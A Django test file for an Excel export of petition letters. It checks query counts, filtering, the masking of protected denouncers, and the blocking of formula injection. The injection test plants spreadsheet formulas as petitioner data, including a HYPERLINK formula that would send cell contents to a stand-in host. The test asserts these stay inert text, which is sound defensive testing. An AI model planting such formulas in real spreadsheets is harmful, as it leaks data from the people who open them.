""""Xuất Excel" of the letter list (issue 13): any number of letters, the same queries for 5 or 50,
the file opens with the filtered rows, protected petitioners masked, and no cell ever a formula."""

from __future__ import annotations

import io

from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from danvan.core.choices import ContentKind, Field
from danvan.people.models import IdentityReveal
from tests.letters.factories import receive

EXPORT = reverse("letters:export")
HEADER = ("Số hiệu", "Ngày nhận", "Người viết đơn", "Tóm tắt", "Loại đơn", "Lĩnh vực", "Trạng thái", "Hạn", "Cơ quan")


def download(client, **params):
    response = client.get(EXPORT, params)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="don-thu-')
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))


def rows(book) -> list[tuple]:
    return list(book.active.iter_rows(values_only=True))


def test_the_export_costs_the_same_queries_for_5_letters_or_50(tree, alice, hana, client_for):
    """Counted as a head, who sees denouncers: the reveals of a chunk are one write, not one per name."""

    def letters(n, start):
        for k in range(start, start + n):
            receive(alice, tree.ubnd_quang_lam, name=f"Hoàng Văn {k}",
                    kind=ContentKind.DENUNCIATION if k % 2 else ContentKind.COMPLAINT)

    client = client_for(hana)

    def measured():
        with CaptureQueriesContext(connection) as captured:
            book = download(client)
        return len(captured), book

    letters(5, 0)
    few, book = measured()
    assert len(rows(book)) == 1 + 5
    letters(45, 5)
    many, book = measured()
    assert many == few
    body = rows(book)[1:]
    assert len(body) == 50
    assert {row[2] for row in body} == {f"Hoàng Văn {k}" for k in range(50)}
    assert IdentityReveal.objects.filter(user=hana).count() == 2 + 25  # each protected name shown, logged


def test_the_export_opens_with_the_filtered_letters_and_masks_denouncers(tree, alice, rita, charlie, client_for):
    complaint = receive(alice, tree.ubnd_quang_lam, name="Nông Văn Dân", summary="Khiếu nại bồi thường đất")
    # Received by rita: alice is neither its receiver, its handler nor a head (ADR 0011).
    receive(rita, tree.ubnd_quang_lam, name="Lý Thị Tố", kind=ContentKind.DENUNCIATION,
            field=Field.ENVIRONMENT, summary="Tố cáo khai thác cát")
    receive(alice, tree.ubnd_hoa_an, anonymous=True, summary="Đơn không ký tên", kind=ContentKind.RECOMMENDATION)
    receive(charlie, tree.ubnd_hoan_kiem, name="Người Hà Nội")  # another province: never in alice's file

    everything = rows(download(client_for(alice)))
    assert everything[0] == HEADER
    by_summary = {row[3]: row for row in everything[1:]}
    assert set(by_summary) == {"Khiếu nại bồi thường đất", "Tố cáo khai thác cát", "Đơn không ký tên"}
    assert by_summary["Khiếu nại bồi thường đất"][:3] == (complaint.code, "02/03/2026", "Nông Văn Dân")
    assert by_summary["Khiếu nại bồi thường đất"][8] == "Ủy ban nhân dân xã Quảng Lâm"
    assert by_summary["Tố cáo khai thác cát"][2] == "•••"  # an officer who does not handle it
    assert by_summary["Đơn không ký tên"][2] == "Nặc danh"

    filtered = rows(download(client_for(alice), content_kind=ContentKind.COMPLAINT))
    assert [row[3] for row in filtered[1:]] == ["Khiếu nại bồi thường đất"]


def test_user_text_in_the_export_is_never_a_formula(tree, alice, client_for):
    receive(alice, tree.ubnd_quang_lam, name="=1+1", summary='=HYPERLINK("http://x.example/?d="&A1,"Bấm vào")')
    receive(alice, tree.ubnd_quang_lam, name="@SUM(A1)", summary="-2+3")
    sheet = download(client_for(alice)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.column in (3, 4)]
    assert {cell.value for cell in cells} == {"=1+1", '=HYPERLINK("http://x.example/?d="&A1,"Bấm vào")',
                                              "@SUM(A1)", "-2+3"}
    for cell in cells:
        assert cell.data_type == "s"  # text, not "f"
        assert cell.quotePrefix  # and Excel keeps it text when the cell is edited
